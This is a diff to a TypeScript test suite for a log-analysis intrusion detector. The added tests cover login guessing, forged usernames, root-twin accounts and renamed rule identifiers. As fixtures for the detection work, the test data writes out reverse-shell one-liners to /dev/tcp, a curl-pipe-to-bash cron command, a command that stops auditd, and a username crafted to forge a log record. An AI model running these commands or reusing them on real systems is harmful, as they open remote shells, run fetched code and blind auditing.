@@ -18,13 +18,13 @@ const storm = Array.from({ length: 100 }, (_, index) =>
 );
 
 test.each([
-  ['sudo', sudo("/bin/bash -c 'bash -i >& /dev/tcp/198.51.100.23/4444 0>&1'"), 'typed/reverse-shell'],
+  ['sudo', sudo("/bin/bash -c 'bash -i >& /dev/tcp/198.51.100.23/4444 0>&1'"), 'command/reverse-shell'],
   ['sudo', sudo('/usr/bin/systemctl stop auditd'), 'command/security-tool-stopped'],
-  ['cron', `${at(1)} CRON[812]: (root) CMD (curl -s http://198.51.100.7/x.sh | bash)`, 'typed/fetched-and-run'],
+  ['cron', `${at(1)} CRON[812]: (root) CMD (curl -s http://198.51.100.7/x.sh | bash)`, 'command/fetched-and-run'],
   [
     'the audit in syslog',
     `${at(1)} audispd: type=EXECVE msg=audit(1700000000.123:4): argc=3 a0="bash" a1="-c" a2=${hex('bash -i >& /dev/tcp/198.51.100.23/4444 0>&1')}`,
-    'typed/reverse-shell',
+    'command/reverse-shell',
   ],
 ])('a command that %s recorded is judged, and cited by its line', (_who, record, rule) => {
   const { findings, verdict } = judge([sudo('/bin/ls'), sudo('/bin/ls'), record]);
@@ -81,8 +81,86 @@ test('somebody who mistypes a password in the midst of a storm is no intruder', 
   expect(findings.map(({ rule }) => rule)).toEqual(['login/spraying']);
 });
 
-test('what is not judged of a log is said', () => {
-  const { not_checked } = judge([sudo('/bin/ls'), `${at(2)} kernel: usb 1-1: new device`]);
+test.each([
+  ['an invalid user', (n: number) => `sshd[${n}]: Invalid user test${n} from 198.51.100.7 port 40000`],
+  [
+    'one who left',
+    (n: number) => `sshd[${n}]: Disconnected from authenticating user root 198.51.100.7 port ${n} [preauth]`,
+  ],
+  ['a closed try', (n: number) => `sshd[${n}]: Connection closed by invalid user a b 198.51.100.7 port ${n} [preauth]`],
+  [
+    'a key for many names',
+    (n: number) => `sshd[${n}]: Failed publickey for u${n} from 198.51.100.7 port 4 ssh2: RSA x`,
+  ],
+  ['PAM', () => 'su: pam_unix(sshd:auth): authentication failure; logname= uid=0 rhost=198.51.100.7  user=root'],
+  ['postfix', () => 'postfix/smtpd[26]: warning: unknown[198.51.100.7]: SASL LOGIN authentication failed: failure'],
+  [
+    'dovecot',
+    () =>
+      'dovecot: imap-login: Disconnected (auth failed, 1 attempts): user=<a@example.com>, method=PLAIN, rip=198.51.100.7, lip=10.0.0.1, TLS',
+  ],
+  ['its worker', () => 'dovecot: auth-worker(24544): pam(toto,198.51.100.7): unknown user'],
+])('guessing is told in the words of %s', (_who, record) => {
+  const { findings, verdict } = judge(
+    Array.from({ length: 8 }, (_, index) => `${at(index)} web1 ${record(index + 1)}`.replace('web1 web1', 'web1')),
+  );
+  expect(findings.map(({ rule, title }) => [rule, title])).toEqual([
+    ['login/guessing', '8 logins from 198.51.100.7 failed'],
+  ]);
+  expect(verdict).toBe('suspicious');
+});
+
+test('a new name with each of four tries is guessing, four tries of one name are not', () => {
+  const tries = (name: (n: number) => string) => judge([1, 2, 3, 4].map((n) => failed(n, name(n), '198.51.100.7')));
+  expect(tries((n) => `u${n}`).findings).toHaveLength(1);
+  expect(tries(() => 'anna')).toMatchObject({ findings: [], verdict: 'benign' });
+});
+
+test('one try that several records tell is one, and a client that offers its keys guesses nothing', () => {
+  const tries = [1, 2].flatMap((second) => [
+    `${at(second)} sshd[7]: Invalid user anan from 198.51.100.7 port 3000`,
+    failed(second, 'invalid user anan', '198.51.100.7'),
+    `${at(second)} sshd[7]: Connection closed by invalid user anan 198.51.100.7 port 3000 [preauth]`,
+  ]);
+  const keys = Array.from(
+    { length: 9 },
+    () => `${at(5)} sshd[8]: Failed publickey for anna from 198.51.100.8 port 4 ssh2: RSA x`,
+  );
+  expect(judge([...tries, ...keys, accepted(9, 'anna', '198.51.100.8')])).toMatchObject({
+    findings: [],
+    verdict: 'benign',
+  });
+});
+
+test('a name that imitates the end of a record accuses nobody else, and is told', () => {
+  const forged = Array.from({ length: 8 }, (_, index) =>
+    failed(index, 'invalid user root from 1.1.1.1 port 22 ssh2', '198.51.100.7'),
+  );
+  expect(judge(forged).findings.map(({ title }) => title)).toEqual([
+    '8 logins from 198.51.100.7 failed, with names made to look like a record that accuses another address',
+  ]);
+});
+
+test('sessions, accepted keys and the other records of a judged event are no gap', () => {
+  const key = `${at(1)} sshd[1]: Accepted publickey for anna from 198.51.100.8 port 4 ssh2: ED25519 SHA256:x`;
+  const opened = `${at(2)} sshd[1]: pam_unix(sshd:session): session opened for user anna(uid=1000) by (uid=0)`;
+  expect(judge([key, opened, sudo('/bin/ls')])).toMatchObject({ verdict: 'benign' });
+  const call = 'type=SYSCALL msg=audit(1700000000.123:4): arch=c000003e syscall=59 success=yes exe="/bin/ls"';
+  const run = 'type=EXECVE msg=audit(1700000000.123:4): argc=1 a0="ls"';
+  expect(judge([call, run], 'audit.log').verdict).toBe('benign');
+  expect(judge([call.replace(':4)', ':5)'), run], 'audit.log').verdict).toBe('inconclusive');
+});
+
+test('an account that is made with the number of root is told', () => {
+  const made = (uid: number) =>
+    `${at(3)} useradd[90]: new user: name=x, UID=${uid}, GID=0, home=/root, shell=/bin/bash`;
+  expect(judge([made(0)]).findings).toMatchObject([{ rule: 'account/root-twin', severity: 'high' }]);
+  expect(judge([made(1001)]).findings).toEqual([]);
+});
+
+test('what is not judged of a log is said, and never clean', () => {
+  const { not_checked, verdict } = judge([sudo('/bin/ls'), `${at(2)} kernel: usb 1-1: new device`]);
+  expect(verdict).toBe('inconclusive');
   expect(not_checked).toContainEqual(expect.objectContaining({ what: 'what 1 of 2 records say' }));
   const long = judge([sudo(`/bin/echo ${'a'.repeat(90_000)}; systemctl stop auditd; echo ${'a'.repeat(90_000)}`)]);
   expect(long.not_checked).toContainEqual(expect.objectContaining({ what: 'the middle of 1 long lines' }));
@@ -92,6 +170,6 @@ test('what is not judged of a log is said', () => {
 test('many light findings do not push a grave one out', () => {
   const light = Array.from({ length: 400 }, (_, index) => `crontab /srv/jobs${index}`);
   const { findings, not_checked } = judge([...light, 'bash -i >& /dev/tcp/203.0.113.5/4444 0>&1'], '.bash_history');
-  expect(findings[0]).toMatchObject({ rule: 'typed/reverse-shell' });
+  expect(findings[0]).toMatchObject({ rule: 'command/reverse-shell' });
   expect(not_checked).toContainEqual(expect.objectContaining({ what: '101 lesser findings' }));
 });
